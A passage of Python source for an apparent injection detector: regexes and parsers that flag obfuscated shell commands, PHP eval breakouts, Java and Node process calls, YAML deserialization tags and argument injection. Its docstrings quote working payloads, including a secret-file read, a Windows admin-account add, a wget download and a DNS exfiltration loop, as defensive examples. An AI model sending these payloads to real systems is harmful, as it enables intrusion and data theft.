    (``curl https://… | jq .``) is documentation."""
    cut = min((i for i in (text.find(";"), text.find("|"), text.find("&")) if i != -1), default=-1)
    if cut <= 0 or "\n" in text[:cut] or not text[cut:].strip(" \t;|&"):
        return False
    head = text[:cut].strip()
    word = head.split(None, 1)[0].lower() if head else ""
    if not (word in RECON or word.startswith(RECON_PREFIXES) or word == "ping") or not bare_command(head):
        return False
    after = text[cut + 1 :].split(None, 1)
    return not (text[cut] == "|" and after and after[0].lower() in _TEXT_FILTERS)


_TEXT_FILTERS = frozenset({"grep", "egrep", "fgrep", "findstr", "head", "tail", "sort", "uniq", "wc", "less", "more",
                           "jq", "awk", "sed", "cut", "column", "tr"})
"""Tools a documentation line pipes a command's output into to pick from it (``ifconfig | grep ether``, fresh56's
cheat sheets); ``| cat file`` reads a file and stays refused."""


_UP_TO_REDIRECTION = re.compile(r"[^;|&<>\n]+?(?=\s+\d?[<>]|\s*[;|&<>\n]|\s*$)")


_OTHER_RUNTIMES = re.compile(
    r"!!python/(?:object|name|module)\b[\w/]*:|!ruby/(?:object|hash|struct|module|class):?\s*['\"]?[A-Z]\w*"
    r"(?:::\w+)*|(?:^|[|&;]\s*)set\s+/a\s+[\d(\-]"
    r"|(?<!\.)\bexecute(?:global)?\s*\(\s*\"{1,2}\s*\w|\bon\s+error\s+resume\s+next\s*:",
    re.I,
)
"""Code run by something other than sh: a YAML tag that makes PyYAML's unsafe loader build and call a Python
object (``!!python/object/new:exec``) or Psych (Ruby) build one (``!ruby/object:Gem::Installer``, ``!ruby/module
"Kernel"``: the Gem::Requirement chain that ends in ``Kernel.eval``; fresh62), cmd.exe's arithmetic probe after a
pipe (``| set /a 3482*7301``), and classic ASP/VBScript run by ``Execute("…")`` (not a method:
``cursor.execute("SELECT …")`` is Python's DB-API) or written as one line of ``:``-separated statements after
``On Error Resume Next:``. VBScript's ``"Ex"&"e"&"cute(`` concatenation is joined first."""
_WINDOWS_ADMIN = re.compile(
    r"^\s*(?:net(?:\.exe)?\s+(?:user|localgroup)\s+[^\n]{1,120}?\s/add\b|reg(?:\.exe)?\s+(?:add|delete)\s+[\"']?HK"
    r"|netsh(?:\.exe)?\s+(?:advfirewall|firewall)\s+set\b)",
    re.I,
)
"""A whole value that is a Windows command changing accounts, the registry or the firewall (``net user x P@ss /add``,
``net localgroup administrators x /add``, ``reg add "HKLM…"``, ``netsh firewall set opmode disable``): no API field
holds one as data; after a separator these are caught like any other command."""
_VB_CONCAT = re.compile(r"\"\s*&\s*\"")
_BACKTICK_RUN = re.compile(r"\s*(?:`[^`\n]+`){2,}\s*")
"""A value made only of command substitutions back to back (`` `cut x``dig y` ``): each runs."""
_FIND_EXEC_SECRET = re.compile(
    r"\bfind\s+[^\n;|&]{0,80}?(?:passwd|shadow|sudoers|id_rsa|id_ed25519|htpasswd|\.env\b)[^\n;|&]{0,80}?-exec(?:dir)?\s",
    re.I,
)
"""``find`` reaching a secret file and running a command on it (``find /etc -name passwd -exec cat {} +``);
``find . -type f -exec chmod 644 {} \\;`` in documentation names no secret."""


_SHELL_HERE_STRING = re.compile(r"(?<![\w$])(?:\$0|\$\{0\}|(?:/[\w/]*/)?(?:ba|z|k|da)?sh)\s*<<<", re.I)
"""A here-string fed to the shell itself (``$0<<<$'\\x69\\x64'``, ``bash<<<"id"``): whatever follows runs as a
script, spelled in escapes or arithmetic (``$((2#1010))``) so that no command name appears."""
_NODE_SHELL = re.compile(
    r"\brequire\s*\(\s*['\"\x60](?:node:)?child_process['\"\x60]\s*\)\s*(?:\.\s*|\[\s*['\"\x60])"
    r"(?:exec|execSync|execFile|execFileSync|spawn|spawnSync|fork)\b|\bprocess\s*\.\s*mainModule\s*\.\s*require\b"
    r"|\bprocess\s*\.\s*binding\s*\(\s*['\"\x60]spawn_sync", re.I)
"""Node.js reaching its process-spawning module from an injected expression (``require('child_process').exec(…)``,
``process.mainModule.require``, ``process.binding('spawn_sync')``): a server-side JavaScript injection that runs
commands. A module import on its own line (``const cp = require('child_process');`` in a code sample) is code being
discussed, not an expression that runs."""
_JAVA_EXEC = re.compile(
    r"[\w$\]}]\s*\.\s*getRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|@java\.lang\.Runtime@|\bnew\s+(?:java\.lang\.)?ProcessBuilder\s*\("
    r"|\bJava\s*\.\s*type\s*\(\s*['\"]java\.lang\.(?:Runtime|ProcessBuilder)['\"]\s*\)"
    r"|\bexec\s*\(\s*(?:java\s*\.\s*lang\s*\.\s*)?Runtime\s*\.\s*getRuntime\s*\(\s*\)\s*,"
    r"|\bfreemarker\s*\.\s*template\s*\.\s*utility\s*\.\s*(?:Execute|ObjectConstructor)\b", re.I)
"""Java reaching the process API from an injected expression or script (MVEL's
``script::Runtime.getRuntime().exec('id')``, OGNL's ``@java.lang.Runtime@getRuntime()``, ``new ProcessBuilder(…)`` in
a Nashorn script, FreeMarker's ``Execute`` class built from OGNL): whatever the evaluator (OGNL, SpEL, MVEL,
JavaScript), the value runs a command. Nashorn and GraalJS reach the same classes by name:
``Java.type('java.lang.Runtime')`` or ``Java.type('java.lang.ProcessBuilder')`` hands a script the class whose
methods start a process (fresh40); no other use of ``Java.type`` names them.
JXPath (GeoServer's ``valueReference``) writes the same call with the runtime as the first argument:
``exec(java.lang.Runtime.getRuntime(), 'id')``. ``getRuntime().exec(`` counts too after a placeholder that stands
for the class name (fresh62: Spring4Shell's access-log pattern writes ``%{c1}i.getRuntime().exec(…)``, ``Runtime``
sent in a header), and after any variable, index or member (fresh79: a Rhino/Nashorn script returns the class from a
function and calls ``r.getRuntime().exec("ping …")`` on the variable; ``getRuntime`` is ``Runtime``'s alone, and
``.exec(`` on what it returns starts a process whatever the receiver is called). After a ``)`` it is left to the
template analysers: SpEL's ``T(java.lang.Runtime).getRuntime()`` and OGNL's ``@x.forName('java.lang.Runtime')
.getRuntime()`` are expression injections they name as such.
No field value names these outside code that is itself the attack."""
_EVAL_DECODED = re.compile(
    r"(?<![\w.$-])(?<!->)(?:eval|assert|create_function|system|exec|passthru|shell_exec|popen|proc_open)\s*\(\s*@?\s*"
    r"(?:base64_decode|decode_base64|gzinflate|gzuncompress|gzdecode|str_rot13|hex2bin|rawurldecode|urldecode"
    r"|convert_uudecode|strrev)\s*\(", re.I)
"""PHP evaluating text it decodes first (``eval(base64_decode("…"))``, ``assert(str_rot13(…))``), or PHP and Perl
running as a command text they decode first (``system(base64_decode('aWQ='))``; Perl's MIME::Base64 spells the
decoder ``decode_base64``, fresh76: TWiki's ``debugenableplugins`` eval): the code or command is hidden from filters
and from the reader, the shape of a one-line web shell and of code injected through ``eval``."""
_PHP_PROBE_CALLS = (
    r"exit|die|md5|sha1|crc32|system|exec|passthru|shell_exec|popen|proc_open|phpinfo|php_uname|phpversion|print_r"
    r"|var_dump|var_export|printf|print|echo|eval|assert|sleep|usleep|file_get_contents|file_put_contents|readfile"
    r"|highlight_file|show_source|include|include_once|require|require_once|base64_decode|str_rot13|call_user_func"
    r"|getenv|gethostbyname|fopen|unlink|error_log|ini_get|get_current_user")
_PHP_EVAL_BREAKOUT = re.compile(
    r"\s*[\w-]{0,32}(?:['\"]\s*[;.]|;)\s*@?(?:" + _PHP_PROBE_CALLS + r")\s*(?:\(|['\"$])[^\n]{0,240}?"
    r"[)'\"]\s*;\s*(?://|#|/\*)\s*",
    re.I,
)
"""A value that closes the string (or the statement) of PHP code that ``eval`` runs, calls a PHP function and cuts the
rest of that code off with a line comment: ``';exit(md5('x'));#``, ``".die(sha1(1));//``, ``a;print_r(getenv());//``.
It opens with the breakout (a quote then ``;`` or ``.``, or a word then ``;``) and ends with the comment, so a snippet
in a question ("exit(0); // done", "then die('error'); # stops") does not match: it neither starts by closing a
string nor ends at the comment marker."""
_PHP_PROBE_STATEMENT = re.compile(
    r"(?:^|[;:|&.'\"])\s*+@?(?:phpversion|phpinfo|php_uname|php_sapi_name|zend_version|getmypid|getmyuid|getmygid"
    r"|getmyinode|get_current_user|getcwd|sys_get_temp_dir|get_loaded_extensions|php_ini_loaded_file)\s*+\(\s*+\)\s*+;",
    re.I,
)
"""A PHP probe statement glued to a separator (``:phpversion();``, ``;getmypid();``, ``'.get_current_user();``): a
scanner checking whether the value reaches ``eval`` or an ``include`` of PHP; the call names the running interpreter or
process and the ``;`` ends the statement. Prose naming the function ("call phpversion() first") has no separator
right before it."""
_ECHO_MARKER = re.compile(
    r"\s*+(?:[\w.-]{1,64}+\s*+(?:;|&&|\|\|?)|(?:;|&&?|\|\|?))\s*+(?:echo|printf)\s++\w[\w-]{0,63}+!{0,3}\s*+", re.I)
"""A whole value that is one word (what the field expects), a separator, then ``echo`` printing one marker
(``status; echo injected-x``, ``42 && echo vuln``), or the separator opening the value (``&echo marker``: Windows'
``&`` chains a second command onto an argument list a CGI passes to ``cmd.exe``, CVE-2019-0232): what a scanner or an
exploit sends to see its marker in the output. The marker may end in exclamation marks (``&&echo vulnerable!``,
fresh83: ``sh -c`` prints them as they are). A script line (``NAME=world; echo hello``) starts with a statement of
its own, not a bare word; a single ``&`` after a word is prose (``Crosby & Echo Smith``)."""
_ADDRESS_OPERAND = re.compile(r"\s*+(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?[ \t]*+")
"""An IPv4 address (with a port) as the whole text before a `` & ``: what a ping or lookup field expects, the left
operand of a command list, never a noun in prose (``Tom & Jerry``, ``R & D``). Anchored at the value's start and
bounded, so each ``&`` asks in constant time."""
_SSI_BARE_DIRECTIVE = re.compile(r"<!--#(?:printenv|exec|include|echo|config|fsize|flastmod|set)\s*+(?:-->|$)", re.I)
"""A server-side include directive with no argument (``<!--#printenv -->``): a page that stores the value and is
served through mod_include runs it and prints the server's environment. The directives with an attribute
(``<!--#exec cmd=…``, ``<!--#include virtual=…``) are template injection (``signatures.ssti``). An HTML comment has a
blank or text after ``<!--``, an editor's ``<!-- #region -->`` a blank before the ``#``."""
_MAGIC_METHOD_OVERRIDE = re.compile(
    r"(?:^|[?&])_method=__(?:construct|destruct|call|callstatic|get|set|invoke|wakeup|tostring)\b", re.I)
"""A method-override parameter naming a PHP magic method (``_method=__construct&filter[]=system``): frameworks that
dispatch on ``_method`` (ThinkPHP 5) then call the constructor with the request's fields, which turns a ``filter``
field into a function call. No client overrides the HTTP method with ``__construct``."""
_HIDDEN_ECHO = re.compile(
    r"\becho\s+(?:[^|;&\n<>]{1,120}?\|\s*rev|(['\"]?)[a-z0-9+/]{8,}={0,2}\1\s*\|\s*base64\s+(?:-d|--decode|-D))"
    r"\s*(?:['\"]|$)", re.I)
"""``echo CVE-2022-1388 | rev``, ``echo 'aDNsbDBf…' | base64 -d``, also inside ``-c '…'``: a marker printed backwards
or decoded from a literal, so that the proof of execution appears in the response but not in the request. Reversing
one's own echo, or decoding a constant to the screen, has no other use (documentation decodes a variable:
``echo $TOKEN | base64 -d``)."""
_REDIRECT_ONLY = re.compile(r"\s*\d?>>?/(?:[\w.-]+/)*[\w.-]*[a-z][\w.-]*\s*", re.I)
"""A whole value that is a shell redirection to a file (``>/tmp/x``, ``>>/var/www/html/s.php``): run by a shell it
creates or truncates that file. Markdown quotes with ``> `` and a space; a bare ``>/tmp`` names no file."""


_ESCAPED_EOL = re.compile(r"(?<!\\)\\[nr]")
_TERMINAL_ESCAPE = re.compile(r"(?:\\(?:033|x1b|e|u001b)|\x1b)\[[\d;]*[a-z]", re.I)
"""A line break written as the two characters ``\\n`` (what ``echo -e``, ``printf``, a log formatter or a JSON
string turned back into text makes of it), and a terminal escape spelled the same way (``\\033[2A``, the cursor
moved up over the lines before, so that a terminal hides them)."""
_EOL_AROUND = re.compile(r"^\s*(?:\\[nr])+|(?:\\[nr])+\s*$")
"""The value opens or ends with an escaped line break (``\\nid\\n``, ``;uname -a\\n``): a line of its own is what
it asks for. Text with escaped line breaks inside (``printf("%d\\n", n)``, ``line1\\nline2``) does not."""
_SUBSTRING_CHAR = re.compile(r"\$\{[a-z_]\w*:\s*\d*\s*:\s*1\s*\}", re.I)
"""One character of a variable (``${HOME:0:1}``, ``${PATH:5:1}``): a way to write ``/`` or a letter without typing
it. A build step's ``${GIT_SHA:0:7}`` takes a prefix, not a character."""
_PATTERN_DELETE = re.compile(r"(?<!\")\$\{[a-z_]\w*//?(?:[^}\\/\n]|\\.){1,60}/\}", re.I)
"""A variable with a pattern removed (``${p//junk/}``): text spelled with filler the shell takes out again. A script
quotes the variable it edits (``mv "$f" "${f/.bak/}"``)."""
_DECODER = (r"(?:(?:xxd\s+(?:-\w+\s+)*-[a-z]*r[a-z]*|base(?:64|32)\s+(?:-\w+\s+)*(?:-d|--decode|-D)\b"
            r"|openssl\s+(?:enc\s+)?(?:-\w+\s+)*-(?:base64|a)\s+(?:-\w+\s+)*-d\b|openssl\s+base64\s+-d\b)"
            r"(?:\s+-\w+)*|rev"
            r"|tr\s+(?:-\w+\s+)*(?:'[^'\n]*'|\"[^\"\n]*\"|\S+)\s+(?:'[^'\n]*'|\"[^\"\n]*\"|\S+))")
_DECODED_LITERAL = re.compile(
    rf"(?<![\w-])(?P<dec>{_DECODER})\s*(?:<<<\s*['\"]?(?P<lit>(?![$`'\"])[^\s'\"]+)"
    rf"|<\(\s*(?:echo|printf)\s+(?:-\w+\s+)*['\"]?(?![$`])[^\s'\")]+)"
    rf"|(?:\$\(|`)\s*(?:echo|printf)\s+(?:-\w+\s+)*(['\"]?)(?![$`])[^\s'\"|)`]+\3\s*\|\s*{_DECODER}",
    re.I,
)
"""A constant decoded, reversed or translated by the shell (``xxd -r -p <<< 2f6574…``, ``tr '!-0' '"-1' <<< .``,
``openssl enc -base64 -d <<< aWQ=`` (fresh80: OpenSSL's base64 decoder, on every appliance without ``base64``),
``$(echo . | tr …)``, ``base64 -d <(echo …)``): the text a command runs on is kept out of the request. Documentation
decodes a variable or a command's output (``base64 -d <<< "$TOKEN"``, ``… | base64 -d``), and ``tr a-z A-Z <<< hello``
changes a word's case."""
_LOOP_LOOKUP = re.compile(
    r"\bfor\s+(\w+)\s+in\s+(?:\$\(|`)[^)`\n]{1,80}[)`]\s*;?\s*do\b[^\n]{0,80}?(?<![\w-])"
    r"(?:host|nslookup|dig|ping|curl|wget)\s+(?:-\S+\s+)*['\"]?(?:https?://)?\$\{?\1\}?\.[\w-]+\.", re.I)
"""A loop over a command's output that looks each line up as a host name (``for f in $(ls /); do host
"$f.x.example"; done``): the output leaves through DNS, one label at a time."""
_ANSI_C_ONLY_ESCAPES = re.compile(r"(?:^|(?<=[\s;|&`(]))\$'((?:\\(?:x[0-9a-f]{2}|[0-3][0-7]{2})){2,})'", re.I)
"""A word in bash's ``$'…'`` quoting made only of character codes (``$'\\167\\150\\157…'``): a command name or line
spelled so that no letter of it appears."""
_OPTION_RUNS_COMMAND = re.compile(
    r"^\s*['\"]?(?:--(?:upload-pack|receive-pack|exec|checkpoint-action\s*=\s*exec|use-compress-program|to-command"
    r"|rsh|rsync-path|ssh-command|open-files-in-pager|config\s*=?\s*['\"]?core\.(?:sshcommand|gitproxy|pager|editor|fsmonitor))"
    r"|-c\s*['\"]?core\.(?:sshcommand|gitproxy|pager|editor|fsmonitor))\s*=\s*['\"]?\S", re.I)
"""A whole value that is an option making the program it is passed to run a command (argument injection): git's
``--upload-pack=…`` and ``-c core.sshCommand=…``, tar's ``--checkpoint-action=exec=…``, ``--use-compress-program``
and ``--to-command``, rsync's ``--rsh``/``--rsync-path``. No API field starts with one of these as data."""
_FILE_SUBSTITUTION = re.compile(r"\$\(\s*<\s*['\"]?[/~][^)\s]*\s*\)")
"""Bash's ``$(</path)``: a file's content read into the command line, no ``cat`` needed (``echo $(</etc/hostname)``).
Scripts that use it read their own relative files (``$(<VERSION)``)."""
_CONTINUED_WORD = re.compile(r"[^\s\\]\\\r?\n[^\s]")
"""A backslash-newline inside a word (``/et\\<newline>c/pa\\<newline>sswd``): the shell joins the lines, a reader
does not. A continued command line breaks between words (``docker run \\<newline>  -p 80:80``)."""
_XSLT_PHP = re.compile(
    r"php:function\s*\(\s*['\"](?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|eval"
    r"|create_function|call_user_func)['\"]", re.I)
"""An XSLT stylesheet calling a PHP function that runs a command or code (``php:function('passthru', 'id')``):
``XSLTProcessor::registerPHPFunctions`` makes any ``php:function`` in a supplied stylesheet a call."""


def _opens_command(text: str, strict: bool) -> bool:
    """``text`` opens with a command line a shell would run (what a shell-out call's literal argument is judged by);
    ``strict``: an unambiguous tool, or a whole command line ``commands.bare_command`` knows."""
    return _command_at(text, 0, ";", strong_only=strict) or (strict and bare_command(text.strip()))


_HERE_STRING_SUBSTITUTION = re.compile(r"(?:[;|&\n`]|\$\()\s*\$\(\s*[^()\n<]*<<<[^()\n]*\)")
"""A separator, then a substitution whose command reads a here-string (``;$(tr A-Z a-z <<< "PWD")``): the command's
output is what the shell runs next, a command name built from a constant (case shifted, decoded, reversed) so that it
never appears in the request. Scripts put such a substitution in a variable or an argument
(``name=$(tr A-Z a-z <<< "$1")``, ``echo $(rev <<< abc)``), not where a command goes."""


def _here_string_command(value: str) -> tuple[int, int] | None:
    """A command whose name is the output of a substitution fed by a here-string (see ``_HERE_STRING_SUBSTITUTION``)."""
    m = _HERE_STRING_SUBSTITUTION.search(value) if "$(" in value else None
    return (m.start(), m.end()) if m is not None else None


def _starts_with_tool(text: str) -> str:
    """The tool a value opens with (a known command followed by a space), or ``""``."""
    m = _WORD.match(text.lstrip())
    if m is None or text.lstrip()[m.end() : m.end() + 1] not in (" ", "\t"):
        return ""
    word = m.group(1).lower()
    return word if word in STRONG or word in WEAK or word in TOOL_NAMES else ""


_IFS_SPLIT_RUN = re.compile(r"(?:^|[;&|\s])IFS=[^\s;]{1,2};[^\n]{0,400}?;\s*\$\{?[a-z_]\w{0,31}\}?\s*$", re.I)
"""The field separator set to one character, then a variable run as the whole last command
(``IFS=];b=wget]host/x]-P]/tmp;$b``, fresh34): the shell splits the variable's value at that character into a
command and its arguments, so the command line is written without one space."""


def _spelled_by_shell(value: str) -> tuple[int, int] | None:
    """Commands and arguments the shell builds from something else, which the separator scan cannot see: one character
    of a variable, a variable with filler removed, a decoded constant, a word split by backslash-newline, a file read by
    ``$(</path)``, a loop that sends output through DNS, a command spelled in ``$'…'`` codes; also code that runs
    one without a shell separator (XSLT's ``php:function``) and argument injection (``--upload-pack=…``)."""
    if "IFS=" in value and (split_run := _IFS_SPLIT_RUN.search(value)):
        return split_run.start(), split_run.end()
    if "${" in value:
        for m in _SUBSTRING_CHAR.finditer(value):
            glued = value[m.start() - 1 : m.start()].isalnum() or value[m.end() : m.end() + 1].isalnum()
            glued = glued or "/" in value[m.start() - 1 : m.start()] + value[m.end() : m.end() + 1]
            if glued or (value[m.start() - 1 : m.start()] != '"' and _starts_with_tool(value)):
                return m.start(), m.end()
        if (tool := _starts_with_tool(value)) and tool not in {"echo", "printf"}:
            if found := _PATTERN_DELETE.search(value):
                return found.start(), found.end()
    if "<<<" in value or "<(" in value or (("$(" in value or "`" in value) and "|" in value):
        for m in _DECODED_LITERAL.finditer(value):
            if not (m.group("lit") and m.group("dec").lower().startswith("tr") and m.group("lit").isalpha()):
                return m.start(), m.end()
        if "<<<" in value and (built := _here_string_command(value)):
            return built
    if "\\\n" in value or "\\\r\n" in value:
        if _starts_with_tool(value) and (continued := _CONTINUED_WORD.search(value)):
            return continued.start(), continued.end()
    if "$(" in value and (read := _FILE_SUBSTITUTION.search(value)):
        return read.start(), read.end()
    if "for " in value and " do" in value and "$" in value and (loop := _LOOP_LOOKUP.search(value)):
        return loop.start(), loop.end()
    if "php:" in value and (xslt := _XSLT_PHP.search(value)):
        return xslt.start(), xslt.end()
    if "$'\\" in value:
        for m in _ANSI_C_ONLY_ESCAPES.finditer(value):
            if _command_at(_HEX_ESCAPE.sub(_escaped_char, m.group(1)) + " ", 0, ";"):
                return m.start(), m.end()
    if value.lstrip(" '\"")[:1] == "-" and (option := _OPTION_RUNS_COMMAND.match(value)):
        return option.start(), option.end()
    return None


_EMPTY_EXPANSIONS = ("$@", "$*", "$()", "${}", "``", "$$", "$!", "$?", "$-", "$_", "<()", ">()")
_ECHO_SUBST = re.compile(r"\$\(\s*echo\s+([a-z]+)\s*\)|`\s*echo\s+([a-z]+)\s*`", re.I)
_SPLIT_HINT = re.compile(r"['\"\\$`]")
_IFS_SPACE = ("${IFS}", "$IFS")
_HEAD = re.compile(r"(?:[^\s;|&<>]|[<>]\(\))+")
_FILLER = re.compile(r"\$[@*!?$_-]|\$\{\}|[<>]\(\)|(?<=[a-z])\$[a-z_]\w*$|\$\{(?!IFS\})[a-z_]\w{0,15}\}", re.I)
_FAKE_EMPTY = re.compile(r"\$\{(?!IFS\})[a-z_]\w{0,15}\}|\$\(([a-z]{1,2})\)|`([a-z]{1,2})`", re.I)
"""Fillers that expand to nothing inside a word (fresh34): an unset braced variable (``p${u}i${u}n${u}g``) and a
one- or two-letter command that does not exist (``p$(u)i$(u)n$(u)g``, ``w`u`h`u`o`u`a`u`m`u`i``: the shell prints
an error and substitutes the empty output). A substitution of a real tool (``$(id)``) is not filler. Two of them
inside one tool's name are enough on their own, whatever the tool: only a filter evasion puts them there."""
_TRAILING_VARIABLE = re.compile(r"\$[a-z_]\w*(?=[\s;|&<>]|$)", re.I)
_REMOVED = str.maketrans("", "", "'\"\\")


def _shell_word(text: str) -> tuple[str, int, bool] | None:
    """The first word of ``text`` as the shell reads it: quotes, backslashes, empty expansions (``$@``, ``$()``,
    ``${}``, an empty backtick pair) and ``$(echo am)`` replaced by what they stand for. Returns the word, where it
    ends, and whether a removed part sat between two kept characters (the word was split). ``None`` when the word
    holds an expansion that cannot be read statically or an unclosed quote (``I'd`` is not a shell word)."""
    out: list[str] = []
    quote = ""
    pending = split = False
    i, n = 0, len(text)
    while i < n:
        c = text[i]
        if quote:
            if c == quote:
                quote, pending = "", True
            else:
                split = split or (pending and bool(out))
                pending = False
                out.append(c)
            i += 1
            continue
        if c in "<>" and text.startswith(("<()", ">()"), i):  # an empty process substitution: pi<()ng
            split, pending, i = split or bool(out), True, i + 3
            continue
        if c.isspace() or c in ";|&<>" or text.startswith(_IFS_SPACE, i):
            break
        if c in "'\"":
            quote, pending, i = c, True, i + 1
            continue
        if c == "\\" and i + 1 < n:
            pending, i = True, i + 1
            c = text[i]
            if c == "\n":
                i += 1
                continue
        elif c in "$`":
            empty = next((e for e in _EMPTY_EXPANSIONS if text.startswith(e, i)), None)
            if empty is None and (fake := _FAKE_EMPTY.match(text, i)) and (
                    (fake.group(1) or fake.group(2) or "").lower() not in TOOLS):
                empty = fake.group()
            echo = None if empty else _ECHO_SUBST.match(text, i)
            if empty is None and echo is None and out and (unset := _TRAILING_VARIABLE.match(text, i)):
                empty = unset.group()  # a variable glued to the word's end, unset: uname$u -a
            if empty is None and echo is None:
                return None
            if echo is not None:
                split = split or bool(out)
                out.append(echo.group(1) or echo.group(2))
                i = echo.end()
            else:
                i += len(empty or "")
                split = split or bool(out)  # glued to the word's end too: ping$() 127.0.0.1
            pending = True
            continue
        split = split or (pending and bool(out))
        pending = False
        out.append(c)
        i += 1
    return None if quote else ("".join(out), i, split)


_ESCAPED_LETTER = re.compile(r"\\(?=[\w-])")
"""A backslash before a letter or a dash in the arguments of a split tool (``\\u\\n\\a\\m\\e \\-\\a``): the shell drops
it, so the arguments read as written without it (fresh34)."""


def _inner_fillers(text: str, end: int) -> int:
    """How many ``_FAKE_EMPTY`` fillers sit inside the first word's letters (a letter right after each)."""
    return sum(1 for m in _FAKE_EMPTY.finditer(text, 0, end) if text[m.end() : m.end() + 1].isalpha())


def _split_command(value: str) -> bool:
    """The value starts with a tool whose name the shell puts back together (``w'h'o'am'i``, ``who$()ami``,
    ``w\\ho\\am\\i``, ``/\\b\\i\\n//s\\h``) or whose arguments it separates with ``${IFS}`` (``ls${IFS}-la``).
    Prose never splits a word with characters the shell removes, so the tool alone, a shell argument or a
    separator after it is enough; a quoted word (``"test"``) is not split."""
    text = value.lstrip()
    head = _HEAD.match(text)
    if head is None:
        return False
    if "$(" not in head.group() and "`" not in head.group():  # the cheap look: remove the characters, find no tool
        guess = head.group().split("${IFS}")[0].split("$IFS")[0].translate(_REMOVED)
        guess = _FILLER.sub("", guess) if "$" in guess or "()" in guess else guess
        guess = guess[guess.rfind("/") + 1 :].lower()
        if guess not in TOOLS and guess not in TOOL_NAMES:
            return False
    read = _shell_word(text)
    if read is None:
        return False
    word, end, split = read
    if not split and not text.startswith(_IFS_SPACE, end):
        return False
    m = _WORD.fullmatch(re.sub(r"/{2,}", "/", word))
    tool = m.group(1).lower() if m else ""
    if tool not in TOOLS and tool not in TOOL_NAMES:
        return False
    rest = normalize(_ESCAPED_LETTER.sub("", text[end:]) if "\\" in text[end:] else text[end:])
    if not rest.strip():
        return tool in STRONG or tool in RECON or tool in SHELLS or _inner_fillers(text, end) >= 2
    line = word + rest
    return (bare_command(line) or _strong_then_separator(line) or _SHELLISH_ARG.match(rest) is not None
            or _AFTER_CMD_END.match(rest) is not None)


_BRACE_WORD = re.compile(r"\s*([^{}\s,]*)\{([^{}\s]*,[^{}\s]*)\}([^{}\s,]*)\s*")
_ANSI_C_QUOTED = re.compile(r"\$(['\"])([^'\"{},]{0,64})\1")
_BRACE_FILLER = re.compile(r"\$(?:\{\w*\}|[a-z_]\w*|[@*!?$_-])|''|\"\"|\\(?=\S)", re.I)


def _brace_command(value: str) -> bool:
    """The whole value is one word with a brace list, which bash expands into a command line: ``{cat,/etc/passwd}``,
    ``{l,-lh}s`` (``ls -lhs``), ``c{a,oun}t`` (``cat count``), ``{,ifconfig}``. A list glued to text or opening with
    an empty member builds the command's name, so a tool name is enough; a bare list (``{id,name}``) must read as a
    command line. Quotes, backslashes and unset variables in the members are removed first, as the shell does."""
    brace = _BRACE_WORD.fullmatch(value)
    if brace is None:
        return False
    head, members, tail = brace.groups()
    if "$'" in members or '$"' in members:
        members = _ANSI_C_QUOTED.sub(r"\2", members)  # {,$'whoami',}: bash's $'…' and $"…" quoting
    words = [_BRACE_FILLER.sub("", head + member + tail) for member in members.split(",")]
    line = " ".join(w for w in words if w)
    glued = bool(head or tail or not members.split(",")[0])
    first = _WORD.match(line)
    if first is None:
        return line[:1] == "/" and _command_at(line, 0, ";")  # {/?s?/?i?/c?t,}: a glob that names a tool
    if glued and first.end() == len(line.split(" ")[0]) and first.group(1).lower() in TOOLS | TOOL_NAMES:
        return True
    return _command_at(line, 0, ";") or bare_command(line)


_ASSIGNMENT = re.compile(r"(?:^|(?<=[;&|\n]))\s*([a-z_]\w*)=((?:\\.|[^\s;&|'\"$`\\])*)(?=\s*(?:;|&&|\|\||\n))", re.I)
_RUN_VARIABLE = re.compile(r"(?:;|&&|\|\||\n)\s*(\$\{?([a-z_]\w*)\}?[^;&|\n]*)", re.I)
_EXPANSION = re.compile(r"\$\{?([a-z_]\w*)\}?", re.I)


def _assembled_command(value: str) -> tuple[int, int] | None:
    """Variables set to pieces (``c=cat&&a=/etc&&$c $a/passwd``, ``x1=c;x2=at;$x1$x2 …``), then expanded in command
    position: the command line exists only once the shell has joined them, so it is judged as that line."""
    assigned = {m.group(1): re.sub(r"\\(.)", r"\1", m.group(2)) for m in _ASSIGNMENT.finditer(value)}
    if not assigned:
        return None
    for run in _RUN_VARIABLE.finditer(value):
        if run.group(2) in assigned:
            line = _EXPANSION.sub(lambda m: assigned.get(m.group(1), ""), run.group(1))
            if _command_at(line + " ", 0, ";") or bare_command(line):
                return run.start(), run.end()
    return None


_CD_ROOT_THEN = re.compile(r"(?:^|(?<=[;&|\n]))\s*cd\s+/\s*(?:;|&&|\|\|)\s*[a-z./]", re.I)
"""``cd /;cd etc;…``: a command line that goes to the file system's root before its next command, the start of a
walk to a system file by relative names that no file path filter sees; a runbook changes to a project folder."""


_IIFE_HANG = re.compile(
    r"\s*+(?:\(\s*+|!\s*+)(?:async\s++)?(?:function\b[^{]{0,60}|\([^(){}]{0,60}\)\s*+=>\s*+)\{\s*+"
    r"(?:while\s*+\(\s*+(?:true|1|!0)\s*+\)|for\s*+\(\s*+;\s*+;\s*+\))\s*+(?:;|\{\s*+\})\s*+;?\s*+\}"
    r"\s*+\)?\s*+\(\s*+\)\s*+\)?\s*+;?\s*+")
"""A whole value that is a function run at once whose body is nothing but an endless empty loop
(``(function x() { while(1); })()``, ``(() => { for(;;){} })()``): handed to a server-side JavaScript sandbox (a
rule engine, a template, ``vm.runInContext``) it holds the worker forever. A code sample's loop does something."""
_PATH_HEAD = re.compile(r"\s*(/[\w.?*\[\]/'\"!-]{1,96})(?=[\s;|&)`]|$)")
_QUOTE_IN_PATH = re.compile(r"[\w/?*]['\"]+[\w/?*]")
_GLOB_PART = re.compile(r"\[!?[^\]/]+\]|\?|\*|[^?*\[]+|\[")
_BIN_DIRS = ("/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/")
_QUOTES = str.maketrans("", "", "'\"")


def _glob_regex(glob: str) -> re.Pattern[str]:
    """A shell glob as a regex over one path: ``?`` one character, ``*`` any run, ``[…]`` a class (``[!…]``
    negated), none of them crossing a ``/``."""
    out = []
    for part in _GLOB_PART.findall(glob):
        if part == "?":
            out.append("[^/]")
        elif part == "*":
            out.append("[^/]*")
        elif part.startswith("[") and len(part) > 2:
            negated = part[1] in "!^"
            body = part[2:-1] if negated else part[1:-1]
            out.append(("[^/" if negated else "[") + body.replace("\\", "\\\\").replace("[", "\\[") + "]")
        else:
            out.append(re.escape(part))
    try:
        return re.compile("".join(out))
    except re.error:  # a class the shell reads literally ([z-a]): no tool name to match
        return re.compile(r"(?!)")


def _path_command(text: str) -> bool:
